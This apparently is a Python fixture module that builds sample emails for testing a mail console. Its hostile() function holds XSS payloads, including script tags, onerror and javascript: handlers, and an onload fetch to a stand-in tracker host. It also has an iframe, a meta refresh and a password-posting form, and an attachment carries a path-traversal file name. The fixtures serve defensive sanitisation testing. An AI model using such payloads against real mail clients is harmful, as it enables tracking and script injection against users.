"""Mails beyond the samples, made of what consoles stumble over: HTML, remote images, attachments, long histories."""

from __future__ import annotations

from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid

ELSEWHERE = "tracker.example.net"
"""A host that no browser may be made to ask."""

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cf500f00038101"
    "80b7e8c8710000000049454e44ae426082"
)
"""A PNG of one pixel."""


def letter(subject: str, text: str, *, sender: str = "Claire Fontaine <claire@example.org>") -> EmailMessage:
    """Return a plain mail; its Message-ID is new, so that it is never taken for a repeat."""
    message = EmailMessage()
    message["From"] = sender
    message["To"] = "Mutuelle Exemple <contact@mutuelle.example.org>"
    message["Subject"] = subject
    message["Date"] = format_datetime(datetime(2026, 11, 20, 9, 30, tzinfo=UTC))
    message["Message-ID"] = make_msgid(domain="example.org")
    message.set_content(text)
    return message


def hostile() -> EmailMessage:
    """Return HTML that would run, frame, post, restyle the page and call home if anybody let it."""
    message = letter(
        "Dégât des eaux <script>alert('sujet')</script> & photos",
        "Bonjour,\n\nUne fuite chez le voisin a inondé ma cuisine hier soir, contrat H-204417.\n\nClaire Fontaine\n",
    )
    message.add_alternative(
        f"""<html><head><style>body {{ display: none }} h1 {{ position: fixed }}</style>
        <base href="https://{ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=https://{ELSEWHERE}/gone"></head>
        <body background="https://{ELSEWHERE}/background.png" onload="fetch('//{ELSEWHERE}')">
        <h1>Dégât des eaux</h1>
        <p style="background: url(https://{ELSEWHERE}/style.png)">Bonjour, une <b>fuite</b> chez le voisin a inondé ma
        cuisine hier soir, contrat <i>H-204417</i>.</p>
        <img src="https://{ELSEWHERE}/pixel.gif" alt="Photo de la cuisine" width="300" height="200">
        <img src="x" onerror="document.title='lu'">
        <script>document.title = 'lu'</script>
        <iframe src="https://{ELSEWHERE}/frame"></iframe>
        <form action="https://{ELSEWHERE}/post"><input name="password"><button>Continuer</button></form>
        <svg><image href="https://{ELSEWHERE}/svg.png" /></svg>
        <a href="javascript:document.title='lu'">Voir</a> <a href="https://{ELSEWHERE}/devis">Le devis</a>
        <p>Cordialement,<br>Claire Fontaine</p></body></html>""",
        subtype="html",
    )
    return message


def with_attachments() -> EmailMessage:
    """Return a mail with a photo, a document of an awkward name, and a page that must not open on our host."""
    message = letter(
        "Constat amiable et photos de l'accident",
        "Bonjour,\n\nVoici le constat amiable signé et les photos de l'aile avant de ma Clio après l'accident de mardi "
        "sur le parking.\n\nBien à vous,\nMathieu Leroy\n06 00 00 00 00\n",
        sender="Mathieu Leroy <mathieu.leroy@example.com>",
    )
    message.add_attachment(b"%PDF-1.4\n" + b"0" * 20_480, maintype="application", subtype="pdf", filename="constat.pdf")
    message.add_attachment(PIXEL, maintype="image", subtype="png", filename="aile avant droite (été).png")
    message.add_attachment(
        b"<script>document.title='lu'</script>", maintype="text", subtype="html", filename='../../"devis".html'
    )
    return message


def with_history() -> EmailMessage:
    """Return a reply whose new words are few and whose history is long."""
    history = "\n".join(f"> Ligne {number} de l'ancien échange au sujet du contrat." for number in range(1, 60))
    return letter(
        "RE: RE: Résiliation de mon contrat auto",
        "Bonjour,\n\nJe vous confirme que je souhaite résilier mon contrat auto A-118203 à l'échéance : il est "
        "vendu.\n\nCordialement,\n\n-- \nJeanne Morel\n12 rue des Lilas, 99000 Fictiville\nTél. 01 99 00 12 34\n\n"
        "Le lun. 16 nov. 2026 à 09:12, Service contrats <contrats@mutuelle.example.org> a écrit :\n"
        f"> Bonjour Madame,\n{history}\n> Cordialement,\n> Le service contrats\n",
        sender="Jeanne Morel <jeanne.morel@example.org>",
    )


def awkward() -> list[EmailMessage]:
    """Return mails whose subjects and senders break layouts: none at all, endless, right to left, all emoji."""
    endless = "Donaudampfschifffahrtsgesellschaftskapitän" * 6
    return [
        letter("", "Bonjour, où en est mon remboursement de soins dentaires ? Merci.", sender="nobody@example.org"),
        letter(
            endless, f"Bonjour,\n\n{endless}\n\nMerci de me rappeler.", sender=f"{endless[:180]} <long@example.org>"
        ),
        letter("تأمين السيارة 🚗🚗🚗", "مرحبا، أريد تأمين سيارتي.", sender="ليلى <layla@example.org>"),
        letter(
            "Question",
            "Bonjour, pouvez-vous me dire ce qu'il en est ? Je ne sais pas à qui m'adresser pour tout cela.",
            sender="Paul Girard <paul@example.org>",
        ),
    ]


def extras() -> list[bytes]:
    """Return all of them as bytes."""
    return [bytes(each) for each in (hostile(), with_attachments(), with_history(), *awkward())]
